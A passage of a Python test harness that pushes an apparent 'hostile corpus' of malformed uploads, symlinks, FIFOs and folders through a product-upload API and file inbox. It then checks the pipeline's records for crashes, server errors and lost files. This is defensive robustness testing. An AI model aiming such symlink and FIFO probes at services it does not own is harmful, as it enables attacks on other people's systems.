    return hashlib.sha256(path.read_bytes()).hexdigest()


@dataclass
class Report:
    outcomes: list[Outcome]
    crashed_ticks: list[str]
    unclassified: list[str]
    runs: int

    def summary(self) -> dict:
        outcomes = self.outcomes
        return {
            "inputs": len({o.id for o in outcomes}),
            "tried_api": sum(o.channel == "api" for o in outcomes),
            "tried_inbox": sum(o.channel == "inbox" for o in outcomes),
            "server_errors": sum(o.server_error for o in outcomes),
            "crashed_sensor_ticks": len(self.crashed_ticks),
            "crashed_steps": len(self.unclassified),
            "unrecorded": sum(not o.recorded for o in outcomes),
            "python_errors_in_reasons": sum(bool(o.python_error) for o in outcomes),
            "lost": sum(o.lost for o in outcomes),
            "ignored_by_rule": sum(bool(o.ignored) for o in outcomes),
            "runs": self.runs,
            "classes": dict(
                sorted(_count(o.error_class or ("ignored" if o.ignored else "UNRECORDED") for o in outcomes).items())
            ),
        }


def send(
    corpus: Path,
    inputs: list[Input],
    *,
    base_url: str,
    headers: dict[str, str],
    api_tenant: str,
    inbox_tenant: str,
    database_url: str,
    uploads_dir: Path,
    media_dir: Path,
    log: Callable[[str], None] = print,
) -> Report:
    """Every input through ``POST /uploads`` and into ``inbox_tenant``'s inbox, in rounds; after each
    round the pipeline settles and each input's record is looked up where its owner sees it."""
    import httpx

    pipeline = Pipeline(database_url, uploads_dir, media_dir)
    inbox = Path(uploads_dir) / inbox_tenant
    inbox.mkdir(parents=True, exist_ok=True)
    outcomes: list[Outcome] = []
    with httpx.Client(base_url=base_url, headers=headers, timeout=600) as client:
        for number, round_ in enumerate(batches(inputs), start=1):
            api, dropped = [], []
            catalogue_api, catalogue_inbox = [], []
            for i in round_:
                content = (corpus / "files" / i.id).read_bytes()
                if i.inbox is None:
                    api.append((i, _post(client, i, content)))
                    if api[-1][1].stored and api[-1][1].stored.lower().endswith(STEP_SUFFIXES):
                        catalogue_api.append(
                            catalogue_row(f"HA-{i.id}", i.name if "/" not in i.name else api[-1][1].stored)
                        )
                if i.multipart is None:
                    outcome = _drop(inbox, i, content)
                    if outcome:
                        dropped.append(outcome)
                        if outcome.stored.lower().endswith(STEP_SUFFIXES) and not outcome.ignored:
                            catalogue_inbox.append(catalogue_row(f"HI-{i.id}", outcome.stored))
            list_name = f"hostile-products-{number}.xlsx"
            if catalogue_api:
                body, content_type = request_body(Input("list", "list", list_name), product_list(catalogue_api))
                assert client.post("/uploads", content=body, headers={"Content-Type": content_type}).status_code == 201
            if catalogue_inbox:
                (inbox / list_name).write_bytes(product_list(catalogue_inbox))
            pipeline.settle()
            for _, outcome in api:
                _look_up_api(client, Path(uploads_dir) / api_tenant, outcome)
            for outcome in dropped:
                _look_up_inbox(database_url, inbox_tenant, inbox, outcome)
            outcomes += [o for _, o in api] + dropped
            log(
                f"round {number}: {len(api)} uploads, {len(dropped)} inbox files, {pipeline.runs} runs so far, "
                f"{sum(not o.recorded for o in outcomes)} unrecorded so far"
            )
    for problem in pipeline.crashed_ticks + pipeline.unclassified:
        log(f"CRASH {problem}")
    return Report(outcomes, pipeline.crashed_ticks, pipeline.unclassified, pipeline.runs)


def _post(client, input: Input, content: bytes) -> Outcome:
    import httpx

    outcome = Outcome("api", input.id, input.family, input.name)
    body, content_type = request_body(input, content)
    try:
        response = client.post("/uploads", content=body, headers={"Content-Type": content_type})
    except httpx.HTTPError as error:  # the server went away: as bad as a 500
        outcome.server_error, outcome.reason = True, f"{type(error).__name__}: {error}"
        return outcome
    outcome.http_status = response.status_code
    outcome.server_error = response.status_code >= 500
    try:
        answer = response.json()
    except ValueError:
        answer = {"detail": response.text[:300]}
    if response.status_code == 201:
        outcome.stored, outcome.sha256, outcome.details["upload_id"] = (
            answer["filename"],
            answer["sha256"],
            answer["id"],
        )
    else:
        outcome.error_class = answer.get("error_class") or f"http_{response.status_code}"
        outcome.reason = (
            answer.get("detail") if isinstance(answer.get("detail"), str) else json.dumps(answer.get("detail"))
        )
    return outcome


def _look_up_api(client, inbox: Path, outcome: Outcome) -> None:
    """An accepted upload's record, as its owner polls it: ``GET /uploads/{id}``."""
    if "upload_id" not in outcome.details:
        return
    answer = client.get(f"/uploads/{outcome.details['upload_id']}").json()
    outcome.details["status"] = answer["status"]
    if answer["status"] == "rejected":
        outcome.error_class, _, outcome.reason = (answer["error"] or "").partition(": ")
    elif answer["kind"] == "catalog" and answer["status"] != "received":
        imported = answer["catalog_import"] or {}
        outcome.error_class, outcome.reason = answer["status"], json.dumps(imported.get("counts"))
    elif answer["kind"] == "step":
        conversions = answer["conversions"] or []
        done = [c for c in conversions if c["status"] != "waiting"]
        if done:
            outcome.error_class = done[0]["error_class"] or done[0]["status"]
            outcome.reason = done[0]["reason"] or f"{len(done)} products converted"
    stored = inbox / outcome.stored
    if answer["status"] == "received" and (not stored.is_file() or sha(stored) != outcome.sha256):
        outcome.lost = True  # replaced or gone before anything looked at it


def _drop(inbox: Path, input: Input, content: bytes) -> Outcome | None:
    """Put the input into the inbox as a client with file access would; None when no file system
    can hold its name."""
    name = on_disk(input.name)
    if name is None:
        return None
    path = inbox / name
    outcome = Outcome("inbox", input.id, input.family, input.name, stored=name)
    if input.inbox == "symlink":
        path.symlink_to(content.decode())
    elif input.inbox == "fifo":
        os.mkfifo(path)
    elif input.inbox == "folder":
        path.mkdir()
    else:
        path.write_bytes(content)
        outcome.sha256 = hashlib.sha256(content).hexdigest()
    if name.startswith(TEMPORARY):
        outcome.ignored = "a temporary file's name (partial upload, lock file)"
    elif input.inbox in ("fifo", "folder"):
        outcome.ignored = f"not a file (a {input.inbox})"
    return outcome


def _look_up_inbox(database_url: str, tenant: str, inbox: Path, outcome: Outcome) -> None:
    """An inbox file's record: its ``product_files`` row, its import, its products' GLBs."""
    from sqlalchemy import select

    from automat_pipeline.db import repository
    from automat_pipeline.db.database import session
    from automat_pipeline.db.models import CatalogImport, MediaAsset, ProductFile

    path = inbox / outcome.stored
    if outcome.sha256 and (not path.is_file() or sha(path) != outcome.sha256):
        outcome.lost = True
    if outcome.ignored:
        return
    with session(database_url) as s:
        owner = repository.tenant(s, tenant, create=False)
        seen = s.scalars(
            select(ProductFile)
            .where(ProductFile.tenant_id == owner.id, ProductFile.filename == outcome.stored)
            .order_by(ProductFile.recorded_at.desc())
        ).first()
        if seen and seen.status == "rejected":
            outcome.error_class, _, outcome.reason = (seen.error or "").partition(": ")
            return
        imported = s.scalars(
            select(CatalogImport).where(CatalogImport.tenant_id == owner.id, CatalogImport.filename == outcome.stored)
        ).first()
        if imported:
            outcome.error_class = imported.status
            outcome.reason = imported.error.partition(": ")[2] if imported.error else json.dumps(imported.counts)
            if imported.error:
                outcome.error_class = imported.error.partition(": ")[0]
            return
        products = repository.products_naming(s, owner.id, [outcome.stored])
        glbs = s.scalars(
            select(MediaAsset).where(
                MediaAsset.asset == "glb_production", MediaAsset.product_id.in_([p.id for p in products])
            )
        ).all()
        if glbs:
            outcome.error_class = glbs[0].error_class or glbs[0].status
            outcome.reason = glbs[0].reason or f"{len(glbs)} products converted"


def _count(values) -> dict[str, int]:
    counts: dict[str, int] = {}
    for value in values:
        counts[value] = counts.get(value, 0) + 1
    return counts


if __name__ == "__main__":
    from automat_pipeline.settings import Settings

    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path("build/hostile-corpus")
    built = build(target, Settings().fixtures_dir, small="--slice" in sys.argv)
    families = {}
    for i in built:
        families[i.family] = families.get(i.family, 0) + 1
    print(f"{len(built)} inputs in {target}: {families}")
